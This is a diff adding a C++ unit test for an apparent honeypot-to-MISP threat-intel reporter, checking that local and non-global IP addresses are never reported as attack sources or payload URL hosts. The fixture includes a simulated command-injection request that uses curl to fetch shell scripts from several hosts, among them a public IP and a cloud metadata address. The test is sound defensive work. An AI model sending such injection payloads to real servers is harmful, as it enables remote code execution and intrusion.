@@ -119,6 +119,56 @@ TEST(ReporterTest, NoAddressOfAnyWarninglistIsEverReported) {
   EXPECT_THAT(misp.violations(), ::testing::IsEmpty());
 }
 
+// Addresses that are not global are never reported, as sources or as payload URL hosts, even
+// with no warninglist loaded at all (the shipped lists miss most of IPv6's special ranges).
+TEST(ReporterTest, NonGlobalAddressesAreNeverReportedWhateverTheLists) {
+  const std::vector<std::string> local = {"::",
+                                          "::1",
+                                          "fd00::1234",
+                                          "ff02::1",
+                                          "fe80::1",
+                                          "::ffff:10.0.0.1",
+                                          "64:ff9b::a00:1",
+                                          "127.0.0.1",
+                                          "192.168.7.7",
+                                          "169.254.1.1"};
+  std::vector<core::Event> events = attacksFrom(local);
+  auto rce = testutil::event(
+      "hp-web-01", testutil::kRce, testutil::kDay + testutil::kHour, "GET",
+      "/cgi-bin/x?cmd=curl%20http://[::1]/a.sh%20http://[fd00::5]/b.sh%20"
+      "http://[::ffff:127.0.0.1]/c.sh%20http://[ff02::1]/d.sh%20http://169.254.169.254/e%20"
+      "http://45.61.185.23/f.sh",
+      {testutil::rule(932100, "Remote Command Execution: Unix Command Injection")});
+  rce.unique_id = "rce-1";
+  events.push_back(rce);
+  TempDir dir;
+  TempDir no_lists;
+  FakeStore store;
+  store.add(events);
+  MispConfig c = testutil::baseConfig();
+  c.batch_size = 1000;
+  c.feed_dir = dir.path();
+  c.warninglist_dirs = {no_lists.path()};
+  auto r = Reporter::create(c, dir.path(), &store,
+                            {[] { return testutil::kDay + 12 * testutil::kHour; }});
+  ASSERT_TRUE(r.isOk()) << r.status().toString();
+  ASSERT_EQ((*r)->warninglists().lists(), 0u);
+  auto st = (*r)->runOnce();
+  ASSERT_TRUE(st.isOk()) << st.status().toString();
+  EXPECT_EQ(st->events_filtered, local.size());
+  std::vector<std::string> ips, urls;
+  for (const auto& [name, bytes] : testutil::readDir(dir.path())) {
+    if (name == "manifest.json" || name == "hashes.csv") continue;
+    const json ev = json::parse(bytes);
+    for (const auto& a : ev["Event"]["Attribute"]) {
+      if (a["type"] == "ip-src") ips.push_back(a["value"]);
+      if (a["type"] == "url") urls.push_back(a["value"]);
+    }
+  }
+  EXPECT_THAT(ips, ::testing::ElementsAre(testutil::kRce));
+  EXPECT_THAT(urls, ::testing::ElementsAre("http://45.61.185.23/f.sh"));
+}
+
 // Events that retention deleted before the reporter read them are counted, not passed over in
 // silence (seqs are dense: a gap is what was deleted).
 TEST(ReporterTest, EventsDeletedBeforeTheyWereReadAreCounted) {
